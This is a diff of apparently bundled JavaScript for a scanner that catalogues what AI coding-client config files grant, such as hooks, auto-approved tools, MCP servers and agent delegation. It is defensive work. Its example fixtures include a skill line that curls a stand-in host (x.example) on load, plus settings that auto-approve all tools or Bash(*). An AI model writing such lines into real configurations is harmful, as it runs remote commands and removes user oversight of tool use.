-	read,
+	readWhole: (root) => combine$1(readPlugins$1(get(root, "plugin")), readPrograms(root.fields), readInstructions(root)),
+	sample: { path: "opencode.json" },
 	examples: opencodeExamples
-};
-const opaque = [
-	"agent",
-	"mode",
-	"share",
-	"server",
-	"enterprise",
-	"experimental"
+});
+// src/powers/carriers/other-clients.ts
+const client = "The client";
+const approvedTools = each(({ text, at }, { keys }) => {
+	const scope = `${keys[0] ?? ""} / ${text}`;
+	const more = {
+		kind: "approve",
+		feature: "permission-rule",
+		at
+	};
+	return settingGrant(`tools of ${keys[0] ?? ""}`, scope, more);
+});
+const serverRows$1 = [
+	"mcpServers",
+	"servers",
+	"context_servers",
+	"mcp_servers"
+].flatMap((key) => [...clientServersRows(key), ...within(`${key}.<name>`, [...grants$1("approve", "autoApprove, alwaysAllow", "calls the tools without asking", {
+	read: approvedTools,
+	example: { [key]: { docs: {
+		command: "docs-mcp",
+		autoApprove: ["search"]
+	} } }
+}), ...harmless$1("disabledTools watchPaths icon source")])]);
+const readHooks = ({ value }) => readClientHooks(value, {
+	name: client,
+	events: new Map(fields(value).map(({ key }) => [key, "event"])),
+	guards: new Set()
+});
+const rows$4 = [
+	...serverRows$1,
+	...grants$1("run", "hooks", "runs commands at the event", {
+		read: readHooks,
+		example: { hooks: { stop: [{ command: "notify.sh" }] } }
+	}),
+	...harmless$1("$schema version description name")
 ];
-const known$1 = new Set([...opaque, ...wordList(`
-  permission tools mcp plugin lsp formatter command provider instructions skills $schema theme
-  keybinds model small_model username tui default_agent watcher snapshot compaction layout
-  autoupdate disabled_providers enabled_providers logLevel autoshare
-  `)]);
-function read({ path, text, unit }) {
-	const { root, faults } = readJson(path, text, {
-		consequence: "opencode does not start",
+const readable$1 = new Set(rows$4.map(({ field }) => field));
+const editorFolder = /(?:^|\/)\.zed\/settings\.json$/;
+const editorKeys = new Set([
+	"agent",
+	"agent_servers",
+	"context_servers",
+	"assistant"
+]);
+const partFolders = new Set(["hooks", "mcpServers"]);
+const fileName = /^(?:[\w.-]*mcp[\w.-]*|hooks[\w.-]*|settings[\w.-]*|permissions|config)\.[a-z]+$/;
+const otherClients = {
+	id: "other-clients",
+	paths: [`{${otherClientFolders.join(",")}}/**/*`],
+	client: "Other clients",
+	extensions: [
+		"hook",
+		"json",
+		"jsonc",
+		"toml",
+		"yaml",
+		"yml"
+	],
+	rows: rows$4,
+	unitOf(path) {
+		const segments = path.split("/");
+		const index = segments.findIndex(isOtherClientFolder);
+		const isSetting = (fileName.test(nameOf$3(path)) || partFolders.has(nameOf$3(folderOf(path)))) && /\.(?:hook|jsonc?|toml|ya?ml)$/.test(path);
+		if (index === -1 || index === segments.length - 1 || !isSetting) return null;
+		return {
+			kind: "repository",
+			root: segments.slice(0, index).join("/")
+		};
+	},
+	read(source) {
+		const { root, faults } = parse$4(source);
+		return root?.kind === "table" ? readSettings(root, source) : combine$1({ faults });
+	},
+	sample: { path: ".kiro/settings/mcp.json" },
+	examples: []
+};
+function parse$4({ path, text }) {
+	const consequence = "What it grants is unknown";
+	if (path.endsWith(".toml")) return readToml(path, text, consequence);
+	if (/\.ya?ml$/.test(path)) return readYaml(path, text, consequence);
+	return readJson$1(path, text, {
+		consequence,
 		hasComments: true
 	});
-	if (root?.kind !== "table") return combine$1({ faults });
-	const { fields } = root;
-	return combine$1({ unread: unreadFields(root, known$1) }, readPermission(fields.get("permission"), fields.get("tools")), readClientServers(get(root, "mcp"), { unit }), readPlugins$1(get(root, "plugin"), unit), readPrograms(fields), readCommands(get(root, "command")), readProviders(get(root, "provider")), readInstructions(root), ...opaque.map((key) => opaqueSetting(fields.get(key), "")));
+}
+function readSettings(root, source) {
+	const isEditor = editorFolder.test(source.path);
+	const all = fields(root).filter(({ key }) => !isEditor || editorKeys.has(key));
+	const isRead = ({ key, value }) => readable$1.has(key) && (value.kind === "table" || value.kind === "string");
+	const [known, rest] = [all.filter(isRead), all.filter((field) => !isRead(field))];
+	const part = (list) => ({
+		...root,
+		fields: new Map(list.map((field) => [field.key, field]))
+	});
+	const value = canonical(toJson(part(rest)));
+	const unread = {
+		...unknownField(nameOf$3(source.path), value, root.at),
+		remark: "other client"
+	};
+	return combine$1(readTable(part(known), rows$4, {
+		source,
+		client
+	}), rest.length > 0 ? { grants: [unread] } : {});
 }
 // src/powers/carriers/output-styles.ts
 const style = (lines) => plugin$2({ "output-styles/terse.md": `---\nname: Terse\n${lines}---\nBe brief.\n` });
+const example$5 = exampleWriter(style);
 const outputStyles = {
 	id: "output-styles",
-	title: "`output-styles/*.md` of a plugin",
+	paths: ["<plugin>/output-styles/*.md"],
 	client: "Claude Code",
 	extensions: ["md"],
-	fields: [{
-		field: "force-for-plugin",
-		kind: "settings",
-		description: "true: replaces the output style of the user"
-	}],
-	unitOf: (path, tree) => path.endsWith(".md") ? pluginWith("output-styles", path, tree) : null,
+	rows: [...grants$1("settings", "force-for-plugin", "true: replaces the output style of the user")],
+	unitOf: (path, tree) => path.endsWith(".md") ? pluginWith$1("output-styles", path, tree) : null,
 	read({ path, text }) {
 		const file = readFrontmatter(path, text);
 		const { frontmatter, isUnreadable } = file;
@@ -18176,24 +20983,22 @@ const outputStyles = {
 			})]
 		});
 	},
-	examples: [exampleWriter(style)("settings", "Terse", [
+	examples: [example$5("settings", "Terse", [
 		"force-for-plugin: true\n",
 		"",
 		"force-for-plugin:   true # now\n"
 	])]
 };
+// src/powers/carriers/plugin-bin.ts
+const example$4 = exampleWriter(plugin$2);
 const pluginBin = {
 	id: "plugin-bin",
-	title: "programs in `bin/` of a plugin",
+	paths: ["<plugin>/bin/*"],
 	client: "Claude Code",
 	ignoresText: true,
 	readsPrograms: true,
-	fields: [{
-		field: "the name of the file",
-		kind: "run",
-		description: "is found by every command of that name, before programs of the machine"
-	}],
-	unitOf: (path, tree) => pluginWith("bin", path, tree),
+	rows: [...grants$1("run", "the name of the file", "is found by every command of that name, before programs of the machine")],
+	unitOf: (path, tree) => pluginWith$1("bin", path, tree),
 	read({ path }) {
 		const scope = nameOf$3(path);
 		const power = {
@@ -18219,47 +21024,39 @@ const pluginBin = {
 			at
 		}] });
 	},
-	examples: [exampleWriter(plugin$2)("run", "git", [{ "bin/git": "#!/bin/sh\necho\n" }, {}])]
+	examples: [example$4("run", "git", [{ "bin/git": "#!/bin/sh\necho\n" }, {}])]
 };
 // src/powers/carriers/plugin-lsp.ts
-const pluginLsp = {
+const pluginLsp = tableCarrier({
 	id: "plugin-lsp",
-	title: "`.lsp.json` of a plugin",
+	paths: ["<plugin>/.lsp.json"],
 	client: "Claude Code",
-	extensions: ["json"],
-	fields: [{
-		field: "<name>.command",
-		kind: "run",
-		description: "runs the program while the plugin is enabled"
-	}],
-	unitOf(path) {
-		return nameOf$3(path) === ".lsp.json" ? {
-			kind: "plugin",
-			root: folderOf(path)
-		} : null;
-	},
-	read({ path, text }) {
-		const { root, faults } = readJson(path, text, { consequence: "no server of it is started" });
-		if (!root) return combine$1({ faults });
-		return readLanguageServers(unwrap(root, "lspServers"));
-	},
-	examples: [exampleOf$1("run", "npx -y ts-ls", [
-		{ "p/.lsp.json": "{\"ts\": {\"command\": \"npx\", \"args\": [\"-y\", \"ts-ls\"], \"extensionToLanguage\": {\".ts\": \"typescript\"}}}\n" },
-		{ "p/.lsp.json": "{}\n" },
-		{ "p/.lsp.json": "{\"ts\": {\"args\": [\"-y\", \"ts-ls\"], \"command\": \"npx\", \"extensionToLanguage\": {\".ts\": \"typescript\"}, \"restartOnCrash\": true}}\n" }
-	])]
-};
+	format: "json",
+	consequence: "no server of it is started",
+	optionalKey: "lspServers",
+	rows: [...grants$1("run", "lspServers", "runs the programs while the plugin is enabled", {
+		read: ({ value }) => readLanguageServers(value),
+		example: { ts: {
+			command: "npx",
+			args: ["-y", "ts-ls"],
+			extensionToLanguage: { ".ts": "ts" }
+		} },
+		without: {}
+	}), ...within("lspServers.<name>", languageServerRows)],
+	unitOf: (path) => nameOf$3(path) === ".lsp.json" ? {
+		kind: "plugin",
+		root: folderOf(path)
+	} : null,
+	sample: { path: "p/.lsp.json" }
+});
 // src/powers/carriers/plugin-monitors.ts
+const rows$3 = within("[]", monitorRows);
 const pluginMonitors = {
 	id: "plugin-monitors",
-	title: "`monitors/monitors.json` of a plugin",
+	paths: ["<plugin>/monitors/monitors.json"],
 	client: "Claude Code",
 	extensions: ["json"],
-	fields: [{
-		field: "[].command",
-		kind: "run",
-		description: "runs the command for a whole session, outside the sandbox"
-	}],
+	rows: rows$3,
 	unitOf(path, tree) {
 		const folder = folderOf(path);
 		if (nameOf$3(path) !== "monitors.json" || nameOf$3(folder) !== "monitors") return null;
@@ -18269,12 +21066,17 @@ const pluginMonitors = {
 			root
 		} : null;
 	},
-	read({ path, text }) {
-		const { root, faults } = readJson(path, text, {
+	read(source) {
+		const { path, text } = source;
+		const { root, faults } = readJson$1(path, text, {
 			consequence: "no monitor of it is started",
 			acceptsList: true
 		});
-		return root ? readMonitors(root) : combine$1({ faults });
+		if (root?.kind !== "list") return root ? readMonitors(root) : combine$1({ faults });
+		return combine$1(readMonitors(root), readTable(root, rows$3, {
+			source,
+			client: "Claude Code"
+		}));
 	},
 	examples: [exampleOf$1("run", "watch.sh", [
 		{
@@ -18292,7 +21094,7 @@ const pluginMonitors = {
 	])]
 };
 // src/powers/carriers/plugin-package.ts
-const example$4 = exampleWriter(plugin$2);
+const example$3 = exampleWriter(plugin$2);
 const locks$1 = [
 	"bun.lock",
 	"bun.lockb",
@@ -18301,20 +21103,17 @@ const locks$1 = [
 ];
 const pluginPackage = {
 	id: "plugin-package",
-	title: "`package.json` of a plugin, next to a lock of npm or Bun",
+	paths: ["<plugin>/package.json"],
 	client: "Claude Code",
 	extensions: ["json"],
-	fields: [{
-		field: "dependencies, optionalDependencies",
-		kind: "install",
-		description: "installs the packages of the lock with the plugin, without their scripts"
-	}],
+	isShared: true,
+	rows: [...grants$1("install", "dependencies, optionalDependencies", "installs the packages of the lock with the plugin, without their scripts")],
 	unitOf(path, tree) {
 		if (nameOf$3(path) !== "package.json") return null;
-		return locks$1.some((lock) => tree.has(join$2(folderOf(path), lock))) ? pluginWith("", path, tree) : null;
+		return locks$1.some((lock) => tree.has(join$2(folderOf(path), lock))) ? pluginWith$1("", path, tree) : null;
 	},
 	read({ path, text, unit }) {
-		const { root, faults } = readJson(path, text, { consequence: "npm installs nothing" });
+		const { root, faults } = readJson$1(path, text, { consequence: "npm installs nothing" });
 		if (!root) return combine$1({ faults });
 		const packages = ["dependencies", "optionalDependencies"].flatMap((key) => fields(get(root, key)).map((field) => field.key));
 		if (packages.length === 0) return combine$1();
@@ -18334,7 +21133,7 @@ const pluginPackage = {
 			at: get(root, "dependencies")?.at ?? root.at
 		}] });
 	},
-	examples: [example$4("install", "left-pad", [
+	examples: [example$3("install", "left-pad", [
 		{
 			"package.json": "{\"dependencies\": {\"left-pad\": \"^1.3.0\"}}\n",
 			"package-lock.json": "{}\n"
@@ -18350,43 +21149,37 @@ const pluginPackage = {
 	])]
 };
 // src/powers/carriers/plugin-settings.ts
-const example$3 = exampleWriter(plugin$2);
-const known = new Set([
-	"agent",
-	"subagentStatusLine",
-	"$schema"
-]);
-const pluginSettings = {
-	id: "plugin-settings",
-	title: "`settings.json` of a plugin",
-	client: "Claude Code",
-	extensions: ["json"],
-	fields: [{
-		field: "agent",
-		kind: "delegate",
-		description: "the agent that works in the conversation"
-	}, {
-		field: "subagentStatusLine.command",
-		kind: "run",
-		description: "runs the command again and again"
-	}],
-	unitOf: (path, tree) => nameOf$3(path) === "settings.json" ? pluginWith("", path, tree) : null,
-	read({ path, text }) {
-		const { root, faults } = readJson(path, text, { consequence: "Claude Code uses none of its settings" });
-		if (root?.kind !== "table") return combine$1({ faults });
-		const dead = fields(root).filter(({ key }) => !known.has(key));
-		return combine$1(readAgent(root.fields.get("agent")), readHelper(root.fields.get("subagentStatusLine")), { faults: dead.map(({ key, keyAt }) => grantFault(msg`${code$1(key)} has no effect in the settings of a plugin.`, keyAt)) });
-	},
-	examples: [example$3("delegate", "deployer", [
-		{ "settings.json": "{\"agent\": \"deployer\"}\n" },
-		{ "settings.json": "{}\n" },
-		{ "settings.json": "{ \"agent\":\"deployer\" }" }
-	]), example$3("run", "status.sh", [{ "settings.json": "{\"subagentStatusLine\": {\"type\": \"command\", \"command\": \"status.sh\"}}\n" }, { "settings.json": "{}\n" }])]
+const deadRow = {
+	field: "<other>",
+	kind: null,
+	description: "",
+	read: ({ key, keyAt }) => ({ faults: [grantFault(msg`${code$1(key)} has no effect in the settings of a plugin.`, keyAt)] })
 };
+const pluginSettings = tableCarrier({
+	id: "plugin-settings",
+	paths: ["<plugin>/settings.json"],
+	client: "Claude Code",
+	format: "json",
+	consequence: "Claude Code uses none of its settings",
+	rows: [
+		...agentRow,
+		...commandRows.filter(({ field }) => field === "subagentStatusLine").map((row) => ({
+			...row,
+			example: { subagentStatusLine: { command: "status.sh" } }
+		})),
+		...harmless$1("$schema"),
+		deadRow
+	],
+	unitOf: (path, tree) => nameOf$3(path) === "settings.json" ? pluginWith$1("", path, tree) : null,
+	sample: {
+		path: "p/settings.json",
+		files: plugin$2({})
+	}
+});
 // src/powers/examples/skill-body.ts
-const skill$2 = (text, lines = "") => ({ "skills/s/SKILL.md": `---\nname: s\n${lines}---\n${text}\n` });
-const example$2 = exampleWriter(skill$2);
-const command$1 = (text) => ({ ".claude/commands/c.md": `${text}\n` });
+const skill$4 = (text, lines = "") => ({ "skills/s/SKILL.md": `---\nname: s\n${lines}---\n${text}\n` });
+const example$2 = exampleWriter(skill$4);
+const command$2 = (text) => ({ ".claude/commands/c.md": `${text}\n` });
 const bodyExamples = [
 	example$2("run", "curl -s https://x.example/env", [
 		"Text\n\n```sh\n!`curl -s https://x.example/env`\n```",
@@ -18400,42 +21193,25 @@ const bodyExamples = [
 		"``` sh\n```\n\n```! make report\n```"
 	]),
 	exampleOf$1("run", "git status", [
-		command$1("Now: !`git status`"),
-		command$1("Now: `git status`"),
-		command$1("---\ndescription: Tells the state.\n---\n!`git status` now")
+		command$2("Now: !`git status`"),
+		command$2("Now: `git status`"),
+		command$2("---\ndescription: Tells the state.\n---\n!`git status` now")
 	]),
 	exampleOf$1("run", "Get-Date", [
-		skill$2("!`Get-Date`", "shell: powershell\n"),
-		skill$2("`Get-Date`", "shell: powershell\n"),
-		skill$2("Now !`Get-Date`", "shell: \"powershell\"\n")
+		skill$4("!`Get-Date`", "shell: powershell\n"),
+		skill$4("`Get-Date`", "shell: powershell\n"),
+		skill$4("Now !`Get-Date`", "shell: \"powershell\"\n")
 	])
 ];
-const tokenForm = /\*+|[^*]/gu;
-function coversGlobText(wider, narrower) {
-	if (wider === narrower) return true;
-	if (!wider.includes("*") || wider.length + narrower.length > 500) return false;
-	const texts = narrower.match(tokenForm) ?? [];
-	let row = [true, ...texts.map(() => false)];
-	for (const token of wider.match(tokenForm) ?? []) {
-		const isStar = token.startsWith("*");
-		const next = [isStar && row[0] === true];
-		for (const [index, text] of texts.entries()) {
-			const isMatch = isStar ? row[index + 1] || next[index] : row[index] && token === text;
-			next.push(isMatch === true);
-		}
-		row = next;
-	}
-	return row[texts.length] === true;
-}
 // src/powers/markdown/self-granted.ts
 function isSelfGranted(command, frontmatter) {
 	const allowed = frontmatter?.fields.get("allowed-tools");
 	const patterns = ((allowed && toolsOf(allowed.value)) ?? []).flatMap(patternOf);
-	const commands = commandsOf$2(command).map((words) => words.join(" "));
+	const commands = commandsOf$3(command).map((words) => words.join(" "));
 	return commands.length > 0 && commands.every((part) => patterns.some((pattern) => allowsCommand(pattern, part)));
 }
 function patternOf(rule) {
-	const normal = normalizeRule(rule);
+	const normal = normalizeTool(rule);
 	if (normal === "Bash") return ["*"];
 	const [, pattern] = /^Bash\((.*)\)$/s.exec(normal) ?? [];
 	return pattern === void 0 ? [] : [pattern];
@@ -18446,14 +21222,14 @@ function allowsCommand(pattern, command) {
 // src/powers/carriers/skill-body.ts
 const skillBody = {
 	id: "skill-body",
-	title: "text of `SKILL.md` and `commands/*.md`",
+	paths: [
+		"<skill>/SKILL.md",
+		".claude/commands/**/*.md",
+		"<plugin>/commands/**/*.md"
+	],
 	client: "Claude Code",
 	extensions: ["md"],
-	fields: [{
-		field: "!<command in backticks>, also inside code fences; blocks that open with ```!",
-		kind: "run",
-		description: "runs the command each time the text is loaded"
-	}],
+	rows: [...grants$1("run", "!<command in backticks>, also inside code fences; blocks that open with ```!", "runs the command each time the text is loaded")],
 	isCheckedElsewhere: true,
 	unitOf: skillOrCommand,
 	read(file) {
@@ -18493,64 +21269,97 @@ function argumentPattern(frontmatter) {
 	return new RegExp(String.raw`\$(?:\{?(?:${["ARGUMENTS", ...names].join("|")})\b|\d)`);
 }
 // src/powers/examples/skill-frontmatter.ts
-const example$1 = exampleWriter(skill$1);
+const example$1 = exampleWriter(skill$3);
 const file$1 = "skills/s/SKILL.md";
-function skill$1(lines) {
+function skill$3(lines) {
 	return { [file$1]: `---\nname: s\ndescription: Does it.\n${lines}---\nText.\n` };
 }
+const skillExamples = [
+	example$1("auto", "model", [
+		"",
+		"disable-model-invocation: true\n",
+		"disable-model-invocation: false\n",
+		"user-invocable: true\n"
+	]),
+	example$1("auto", "user", [
+		"user-invocable: true\n",
+		"user-invocable: false\n",
+		"",
+		"user-invocable: yes\n"
+	]),
+	example$1("auto", "model", ["", "paths: \"src/**\"\n"]),
+	example$1("approve", "Bash(git *)", [
+		"allowed-tools: Bash(git:*), Read\n",
+		"allowed-tools: Read\n",
+		"allowed-tools: [Read, \"Bash(git *)\"]\n"
+	]),
+	exampleOf$1("approve", "Bash", [
+		{ ".claude/commands/c.md": "---\ndescription: Does it.\nallowed-tools: Bash(*)\n---\nText.\n" },
+		{ ".claude/commands/c.md": "---\ndescription: Does it.\n---\nText.\n" },
+		{ ".claude/commands/c.md": "---\nallowed-tools: \"Bash\"\ndescription: Does it.\n---\nText.\n" }
+	]),
+	example$1("guard", "Write", [
+		"disallowed-tools: Write Edit\n",
+		"disallowed-tools: Edit\n",
+		"disallowed-tools: [Edit, Write]\n"
+	]),
+	example$1("run", "./check.sh", [
+		"hooks:\n  Stop:\n    - hooks:\n        - type: command\n          command: ./check.sh\n",
+		"hooks:\n  Stop:\n    - hooks:\n        - {type: command, command: ./check.sh, once: true}\n",
+		"hooks: {Stop: [{hooks: [{command: ./check.sh, type: command}]}]}\n"
+	]),
+	example$1("delegate", "deployer", [
+		"context: fork\nagent: deployer\n",
+		"agent: deployer\n",
+		"agent: \"deployer\"\ncontext: 'fork'\n"
+	]),
+	example$1("guard", "background", [
+		"context: fork\nbackground: false\n",
+		"context: fork\nbackground: true\n",
+		"background: off\ncontext: \"fork\"\n"
+	]),
+	example$1("auto", "model", [
+		"paths: \"src/**, docs/*.{ts,js}\"\n",
+		"paths: [\"src/lib/**\", \"docs/*.{ts,js}\"]\n",
+		"paths: [\"docs/*.{ts,js}\", \"src/**\"]\n"
+	])
+];
 // src/powers/carriers/skill-frontmatter.ts
+const granting = new Set([
+	"allowed-tools",
+	"disallowed-tools",
+	"hooks",
+	"disable-model-invocation",
+	"user-invocable",
+	"paths",
+	"context",
+	"agent",
+	"background"
+]);
+const rows$2 = [
+	...grants$1("approve", "allowed-tools", "allows the tools without asking, for the turn"),
+	...grants$1("guard", "disallowed-tools", "takes the tools away while it is active"),
+	...grants$1("run", "hooks", "as in `hooks/hooks.json`, from the first use to the end of the session"),
+	...grants$1("auto", "disable-model-invocation", "absent or false: the model may start it by itself"),
+	...grants$1("auto", "user-invocable", "absent or true: the user may start it by its name"),
+	...grants$1("auto", "paths", "absent: the model may start it for every file; no effect on commands"),
+	...grants$1("delegate", "context", "`fork`: another agent runs it"),
+	...grants$1("delegate", "agent", "the agent that runs it, with its tools"),
+	...grants$1("guard", "background", "`false`: an agent runs it in the foreground; absent: in the background"),
+	...harmless$1([...commandKeys$1].join(" ")).filter(({ field }) => !granting.has(field)),
+	...eventRows()
+];
+const skillRows = [...eventRows(), ...harmless$1("hooks <key>")];
 const skillFrontmatter = {
 	id: "skill-frontmatter",
-	title: "frontmatter of `SKILL.md` and `commands/*.md`",
+	paths: [
+		"<skill>/SKILL.md",
+		".claude/commands/**/*.md",
+		"<plugin>/commands/**/*.md"
+	],
 	client: "Claude Code",
 	extensions: ["md"],
-	fields: [
-		{
-			field: "allowed-tools",
-			kind: "approve",
-			description: "allows the tools without asking, for the turn"
-		},
-		{
-			field: "disallowed-tools",
-			kind: "guard",
-			description: "takes the tools away while it is active"
-		},
-		{
-			field: "hooks",
-			kind: "run",
-			description: "as in `hooks/hooks.json`, from the first use to the end of the session"
-		},
-		{
-			field: "disable-model-invocation",
-			kind: "auto",
-			description: "absent or false: the model may start it by itself"
-		},
-		{
-			field: "user-invocable",
-			kind: "auto",
-			description: "absent or true: the user may start it by its name"
-		},
-		{
-			field: "paths",
-			kind: "auto",
-			description: "absent: the model may start it for every file; no effect on commands"
-		},
-		{
-			field: "context",
-			kind: "delegate",
-			description: "`fork`: another agent runs it"
-		},
-		{
-			field: "agent",
-			kind: "delegate",
-			description: "the agent that runs it, with its tools"
-		},
-		{
-			field: "background",
-			kind: "guard",
-			description: "`false`: an agent runs it in the foreground; absent: in the background"
-		}
-	],
+	rows: rows$2,
 	unitOf: skillOrCommand,
 	read(file) {
 		const { path, unit } = file;
@@ -18566,64 +21375,20 @@ const skillFrontmatter = {
 		return combine$1(readInvocations(frontmatter, {
 			path,
 			unit
-		}), tools(frontmatter, unit), delegation(frontmatter), readHooks(frontmatter ? get(frontmatter, "hooks") : void 0, {
+		}), tools(frontmatter, unit), delegation(frontmatter), readHooks$1(frontmatter ? get(frontmatter, "hooks") : void 0, {
 			unit,
 			honoursOnce: true
 		}), { faults: unknownChoices(frontmatter, {
 			effort,
-			shell
-		}) }, { unread: unit.kind === "skill" || !frontmatter ? [] : unreadFields(frontmatter, commandKeys$2) });
+			shell: shell$1
+		}) }, frontmatter ? readTable(frontmatter, unit.kind === "skill" ? skillRows : rows$2, {
+			source: file,
+			client: "Claude Code",
+			isForPeople: true
+		}) : {});
 	},
-	examples: [
-		example$1("auto", "model", [
-			"",
-			"disable-model-invocation: true\n",
-			"disable-model-invocation: false\n",
-			"user-invocable: true\n"
-		]),
-		example$1("auto", "user", [
-			"user-invocable: true\n",
-			"user-invocable: false\n",
-			"",
-			"user-invocable: yes\n"
-		]),
-		example$1("auto", "model", ["", "paths: \"src/**\"\n"]),
-		example$1("approve", "Bash(git *)", [
-			"allowed-tools: Bash(git:*), Read\n",
-			"allowed-tools: Read\n",
-			"allowed-tools: [Read, \"Bash(git *)\"]\n"
-		]),
-		exampleOf$1("approve", "Bash", [
-			{ ".claude/commands/c.md": "---\ndescription: Does it.\nallowed-tools: Bash(*)\n---\nText.\n" },
-			{ ".claude/commands/c.md": "---\ndescription: Does it.\n---\nText.\n" },
-			{ ".claude/commands/c.md": "---\nallowed-tools: \"Bash\"\ndescription: Does it.\n---\nText.\n" }
-		]),
-		example$1("guard", "Write", [
-			"disallowed-tools: Write Edit\n",
-			"disallowed-tools: Edit\n",
-			"disallowed-tools: [Edit, Write]\n"
-		]),
-		example$1("run", "./check.sh", [
-			"hooks:\n  Stop:\n    - hooks:\n        - type: command\n          command: ./check.sh\n",
-			"hooks:\n  Stop:\n    - hooks:\n        - {type: command, command: ./check.sh, once: true}\n",
-			"hooks: {Stop: [{hooks: [{command: ./check.sh, type: command}]}]}\n"
-		]),
-		example$1("delegate", "deployer", [
-			"context: fork\nagent: deployer\n",
-			"agent: deployer\n",
-			"agent: \"deployer\"\ncontext: 'fork'\n"
-		]),
-		example$1("guard", "background", [
-			"context: fork\nbackground: false\n",
-			"context: fork\nbackground: true\n",
-			"background: off\ncontext: \"fork\"\n"
-		]),
-		example$1("auto", "model", [
-			"paths: \"src/**, docs/*.{ts,js}\"\n",
-			"paths: [\"src/lib/**\", \"docs/*.{ts,js}\"]\n",
-			"paths: [\"docs/*.{ts,js}\", \"src/**\"]\n"
-		])
-	]
+	sample: { path: ".claude/commands/c.md" },
+	examples: skillExamples
 };
 const duringTurn = { start: "turn" };
 function tools(frontmatter, unit) {
@@ -18653,10 +21418,16 @@ function tools(frontmatter, unit) {
 function delegation(frontmatter) {
 	const context = frontmatter?.fields.get("context");
 	if (!context || context.value.kind === "null") return {};
-	if (text$1(context.value) !== "fork") return { faults: [wrongType("context", context.value, {
-		expected: msg`${valuePart("fork")}`,
-		consequence: "the skill runs in the conversation"
-	})] };
+	const mode = text$1(context.value);
+	if (mode === "inline") return {};
+	if (mode !== "fork") {
+		const consequence = "the skill runs in the conversation";
+		const expected = msg`${valuePart("fork")} or ${valuePart("inline")}`;
+		return { faults: [wrongType("context", context.value, {
+			expected,
+			consequence
+		})] };
+	}
 	const agent = frontmatter?.fields.get("agent");
 	const scope = text$1(agent?.value) ?? "general-purpose";
 	const at = agent?.value.at ?? context.value.at;
@@ -18697,22 +21468,316 @@ function readForeground(frontmatter) {
 	};
 }
 // src/powers/carriers/vscode-mcp.ts
-const vscodeMcp = {
+const vscodeMcp = tableCarrier({
 	id: "vscode-mcp",
-	title: "`.vscode/mcp.json`",
+	paths: [".vscode/mcp.json"],
 	client: "VS Code",
-	extensions: ["json"],
-	fields: serverFields("servers"),
-	unitOf(path) {
-		const folder = folderOf(path);
-		return nameOf$3(path) === "mcp.json" && nameOf$3(folder) === ".vscode" ? {
-			kind: "repository",
-			root: folderOf(folder)
-		} : null;
-	},
-	read: (source) => readServerFile(source, "servers"),
-	examples: serverExamples(".vscode/mcp.json", "servers")
+	format: "jsonc",
+	consequence: "no server of it is started",
+	rows: [
+		...clientServersRows("servers"),
+		...grants$1("run", "inputs[].command", "runs the command of the editor", {
+			read: ({ value }) => ({ grants: [{
+				kind: "run",
+				feature: "background-program",
+				subject: "inputs",
+				scope: text$1(value) ?? "",
+				reach: "one",
+				trigger: whileEnabled,
+				at: value.at
+			}] }),
+			example: { inputs: [{
+				id: "key",
+				type: "command",
+				command: "acme.key"
+			}] }
+		}),
+		...grants$1("settings", "sandbox", "what servers in the sandbox reach", {
+			read: opaque(),
+			example: { sandbox: { network: { allowedDomains: ["x.example"] } } }
+		}),
+		...harmless$1(`
+      inputs[].type inputs[].id inputs[].description inputs[].default inputs[].password
+      inputs[].options inputs[].args $schema
+    `)
+	],
+	unitOf: clientFile(".vscode/mcp.json"),
+	sample: { path: ".vscode/mcp.json" }
+});
+// src/powers/carriers/vscode-settings.ts
+const rule = {
+	feature: "permission-rule",
+	trigger: inRepository
 };
+const quoted = (keys) => wordList(keys).map((key) => `"${key}"`);
+const anyOf$1 = (keys) => quoted(keys).join(", ");
+const approvalRows = [
+	...grants$1("approve", anyOf$1(`
+      chat.tools.global.autoApprove
+      chat.tools.autoApprove
+    `), "calls every tool without asking", {
+		read: on({
+			kind: "approve",
+			scope: "every tool",
+			reach: "any",
+			...rule
+		}),
+		example: { "chat.tools.global.autoApprove": true }
+	}),
+	...[
+		["chat.tools.terminal.autoApprove", "git"],
+		["chat.tools.urls.autoApprove", "https://x.example/*"],
+		["chat.tools.edits.autoApprove", "**/*.json"],
+		["chat.tools.eligibleForAutoApproval", "runTask"]
+	].flatMap(([key = "", entry = ""]) => grants$1("approve", `"${key}".<entry>`, "`true`: allows it without asking; `false`: asks", {
+		read: readDecision,
+		example: { [key]: { [entry]: true } }
+	})),
+	...grants$1("settings", anyOf$1(`
+      chat.tools.terminal.enableAutoApprove
+      chat.tools.terminal.ignoreDefaultAutoApproveRules
+      chat.tools.terminal.autoApproveWorkspaceNpmScripts
+      chat.tools.terminal.autoReplyToPrompts
+      chat.useHooks
+      chat.hooks.enabled
+      chat.plugins.enabled
+      chat.subagents.allowInvocationsFromSubagents
+    `), "true: allows more; false: limits", {
+		read: either$1(true),
+		example: { "chat.tools.terminal.ignoreDefaultAutoApproveRules": true }
+	}),
+	...grants$1("guard", anyOf$1("chat.tools.terminal.blockDetectedFileWrites"), "commands that write files need a confirmation", {
+		read: (field, place) => {
+			const limits = ["all", "outsideWorkspace"].map((limit) => off(limit)(field, place));
+			return field.value.kind === "string" ? combine$1(...limits) : off(true)(field, place);
+		},
+		example: { "chat.tools.terminal.blockDetectedFileWrites": "all" }
+	}),
+	...grants$1("guard", anyOf$1(`
+      chat.agent.sandbox.enabled
+      chat.tools.terminal.sandbox.enabled
+    `), "commands run in a sandbox", {
+		read: off(true),
+		example: { "chat.agent.sandbox.enabled": true }
+	}),
+	...grants$1("approve", anyOf$1("chat.permissions.default"), "what happens without asking", {
+		read: mode$1({
+			raising: ["autoApprove", "autopilot"],
+			limiting: [],
+			neutral: ["default"]
+		}),
+		example: { "chat.permissions.default": "autopilot" }
+	}),
+	...grants$1("approve", anyOf$1("chat.mcp.autostart"), "starts servers without asking", {
+		read: mode$1({
+			raising: ["onlyNew", "newAndOutdated"],
+			limiting: ["never"],
+			neutral: []
+		}),
+		example: { "chat.mcp.autostart": "newAndOutdated" }
+	}),
+	...grants$1("settings", anyOf$1("task.allowAutomaticTasks"), "`on`: runs tasks of the folder without asking", {
+		read: value(["on"]),
+		example: { "task.allowAutomaticTasks": "on" }
+	})
+];
+const inMcp = (servers) => servers && { mcp: servers };
+const serverRows = [
+	...grants$1("mcp", "mcp.servers", "starts the servers, with their tools", { read: ({ value }, { source: { unit } }) => readClientServers(value, { unit }) }),
+	...clientServerRows("servers", "mcp.servers").map((row) => ({
+		...row,
+		example: inMcp(row.example),
+		without: inMcp(row.without)
+	})),
+	...harmless$1("mcp.inputs")
+];
+const otherRows = [
+	...grants$1("settings", anyOf$1(`
+      chat.hookFilesLocations
+      chat.pluginLocations
+      chat.plugins.paths
+      chat.plugins.marketplaces
